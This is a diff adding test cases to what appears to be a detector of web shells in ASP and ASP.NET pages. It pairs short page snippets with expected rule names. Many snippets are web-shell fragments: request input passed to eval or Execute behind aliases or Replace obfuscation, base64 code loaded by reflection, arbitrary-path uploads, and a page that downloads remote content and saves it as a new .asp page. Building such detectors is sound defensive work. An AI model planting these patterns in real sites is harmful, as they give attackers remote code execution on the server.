@@ -41,13 +41,164 @@ for (const [what, page, rules] of [
   [
     'a download to where the request says',
     cs(`var to = ${R}["to"]; new WebClient().DownloadFile("http://192.0.2.1/a", to);`),
-    ['flow-fetches', 'flow-puts-where-asked'],
+    ['flow-puts-where-asked'],
   ],
   ['a copy between places of the page', cs(`File.Copy(Server.MapPath("a"), Server.MapPath("b")); x = ${R}["a"];`), []],
   ['a class that the page names', cs(`var t = Type.GetType("A.B"); Activator.CreateInstance(t, ${R}["a"]);`), []],
   ['an object that the page names', `<% Set a = CreateObject("ADODB.Recordset") : b = ${R}("c") %>`, []],
   ['a question to WMI', cs(`var s = new ManagementObjectSearcher("select * from Win32_Process"); w(${R}["a"]);`), []],
   ['a list of what the request brings', cs(`var list = new string[] { ${R}["a"] }; Response.Write(list[0]);`), []],
+  // uploads, without a directive, in either language
+  [
+    'an upload to where the request says, in C#',
+    `<%if (${R}.Files.Count!=0) { ${R}.Files[0].SaveAs(Server.MapPath(${R}["f"])); }%>`,
+    ['flow-saves-upload'],
+  ],
+  [
+    'an upload to where the request says, in Basic, with curly quotes',
+    `<% If ${R}.Files.Count <> 0 Then ${R}.Files(0).SaveAs(Server.MapPath(${R}(\xe2\x80\x9cf\xe2\x80\x9d))) %>`,
+    ['flow-saves-upload'],
+  ],
+  [
+    'an upload under its own name into the folder of the page',
+    cs(`var file = ${R}.Files[0]; var path = Server.MapPath("~/" + file.FileName); file.SaveAs(path);`),
+    ['flow-saves-upload'],
+  ],
+  [
+    'an upload through a control',
+    `<%@ Page Language="VB" %><asp:FileUpload id="up" runat="server" /><script runat="server">Sub b_Click(o As Object, e As EventArgs)\nup.SaveAs(Server.MapPath(up.FileName))\nEnd Sub</script>`,
+    ['flow-saves-upload'],
+  ],
+  [
+    'an upload into a folder of the application',
+    cs(`var f = ${R}.Files[0]; f.SaveAs(Server.MapPath("~/uploads/" + f.FileName));`),
+    [],
+  ],
+  [
+    'an upload whose kind is looked at',
+    cs(`var f = ${R}.Files[0]; if (Path.GetExtension(f.FileName) == ".png") f.SaveAs(Server.MapPath(f.FileName));`),
+    [],
+  ],
+  // databases
+  [
+    'a database and a question of the request',
+    `<% var c = new SqlConnection(${R}.QueryString["c"]); var q = new SqlCommand(${R}.QueryString["q"], c); %>`,
+    ['flow-opens-database'],
+  ],
+  [
+    'a database by a property, and a question of the request',
+    cs(
+      `var c = new OleDbConnection(); c.ConnectionString = ${R}["c"]; c.Open(); var q = c.CreateCommand(); q.CommandText = ${R}["q"];`,
+    ),
+    ['flow-opens-database'],
+  ],
+  [
+    'a database and a question of the request, in classic ASP',
+    `<% Set c = Server.CreateObject("ADODB.Connection")\nc.Open ${R}("c")\nSet r = c.Execute(${R}("q")) %>`,
+    ['flow-opens-database'],
+  ],
+  [
+    'a question of the request to the database of the application',
+    `<% Set c = Server.CreateObject("ADODB.Connection")\nc.Open Application("dsn")\nSet s = Server.CreateObject("ADODB.Recordset")\ns.Open "select a from b where c=" & ${R}("q"), c\nc.Execute "delete from b where c=" & ${R}("q") %>`,
+    [],
+  ],
+  // JScript.NET
+  [
+    'a web method of JScript',
+    `<%@ WebService Language="JScript" class="A"%>import System;public class A extends WebService{WebMethodAttribute function Run(what : String) : Void{ var c = HttpContext.Current; eval(what);}}`,
+    ['flow-evaluates'],
+  ],
+  // eval under other names
+  [
+    'eval as a property of an object',
+    `<script runat=server language=javascript> var p = ${R}.form('z'); var w = {'E' : eval}; w.E(p+''); </script>`,
+    ['flow-evaluates'],
+  ],
+  [
+    'eval as what a function returns',
+    `<%@language="javascript"%><%g()(g(1));function g(a){if(a){return ${R}('_')+''}else{return eval\n}}%>`,
+    ['flow-evaluates'],
+  ],
+  [
+    'execute behind a property of a class',
+    `<% Class A\nPublic Property Let Code(s)\nExecuteGlobal s\nEnd Property\nEnd Class\nSet a1 = New A\na1.Code = ${R}("z") %>`,
+    ['flow-evaluates'],
+  ],
+  [
+    'execute behind a method that is called without brackets',
+    `<% Sub Run(s)\nExecute s\nEnd Sub\nRun ${R}("z") %>`,
+    ['flow-evaluates'],
+  ],
+  [
+    'execute behind a reference',
+    `<% Sub Run(s)\nExecute s\nEnd Sub\nSet f = GetRef("Run") : f(${R}("z")) %>`,
+    ['flow-evaluates'],
+  ],
+  ['a page through another name of the server', `<% Set x = Server\nx.Execute ${R}("z") %>`, ['flow-evaluates']],
+  ['code through another name of the request', `<% Set q = ${R}\nExecute q("z") %>`, ['flow-evaluates']],
+  [
+    'code that Replace makes',
+    `<% a="e0x0e0c0ut0e(0${R.slice(0, 3)}0${R.slice(3)}(""x0x""))"\na=replace(a,"0","")\neval a %>`,
+    ['flow-evaluates'],
+  ],
+  [
+    'code out of the session by a key that is computed',
+    `<% k(1) = "p"\nSession(k(1)) = ${R}("z")\nSet d = Server.CreateObject("Scripting.Dictionary")\nd.Add k(1), Session(k(1))\nExecute(d(k(1))) %>`,
+    ['flow-evaluates'],
+  ],
+  [
+    'a look-up of a regular expression, and a command of a database',
+    `<% Set m = re.Execute(${R}("z"))\nconn.Execute "update a set b=" & ${R}("z") %>`,
+    [],
+  ],
+  [
+    'the value of a match that is evaluated',
+    `<% For Each m In re.Execute(text)\nx = eval(m.value)\nNext\ny = ${R}("z") %>`,
+    [],
+  ],
+  // reflection
+  [
+    'a method by a name of single letters',
+    cs(
+      `var d = ${R}.BinaryRead(9); var t = Type.GetType("System.X"); var m = t.GetMethod(new string(new char[]{'L','o','a','d'})); m.Invoke(null, new object[] { d });`,
+    ),
+    ['flow-loads-code'],
+  ],
+  [
+    'a delegate, and what a method returns',
+    `<%@ Page Language="C#" %><script runat="server">byte[] Take() { return Convert.FromBase64String(${R}["z"]); }\nvoid Page_Load(object o, EventArgs e) { var run = (D)Delegate.CreateDelegate(typeof(D), m); run(Take()); }</script>`,
+    ['flow-loads-code'],
+  ],
+  // pages that write pages
+  [
+    'a page that is fetched and saved',
+    `<% Set x = CreateObject("Microsoft.XMLHTTP")\nx.Open "GET","http://192.0.2.1/a.txt",False\nx.Send()\nSet s = CreateObject("ADODB.Stream")\ns.Write(x.responseBody)\ns.SaveToFile Server.MapPath("b.asp"),2 %>`,
+    ['flow-drops-page'],
+  ],
+  [
+    'a page that replaces itself',
+    `<% Set f = o.CreateTextFile(Server.MapPath(${R}.ServerVariables("SCRIPT_NAME")), True)\nf.Write ${R}("d") %>`,
+    ['flow-rewrites-itself'],
+  ],
+  [
+    'a raw socket',
+    cs(
+      `var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.IOControl(IOControlCode.ReceiveAll, a, b);`,
+    ),
+    ['flow-captures-network'],
+  ],
+  // what applications do
+  [
+    'a question to one service',
+    `<% Set x = CreateObject("MSXML2.ServerXMLHTTP")\nx.Open "GET", "http://captcha.example/check?a=" & ${R}("a"), False %>`,
+    [],
+  ],
+  ['a list of a folder of the site', `<% d = Server.MapPath("images/" & ${R}("d"))\nSet f = fso.GetFolder(d) %>`, []],
+  [
+    'the name of an uploaded file',
+    `<% ' starts the upload process\nf.FileName = Right(n, 3)\nn = ${R}("n")\nf.FileName = n %>`,
+    [],
+  ],
 ] as const) {
   test(`${what}: ${rules.join(', ') || 'nothing'}`, () => assert.deepEqual(rulesOf(page), rules))
 }
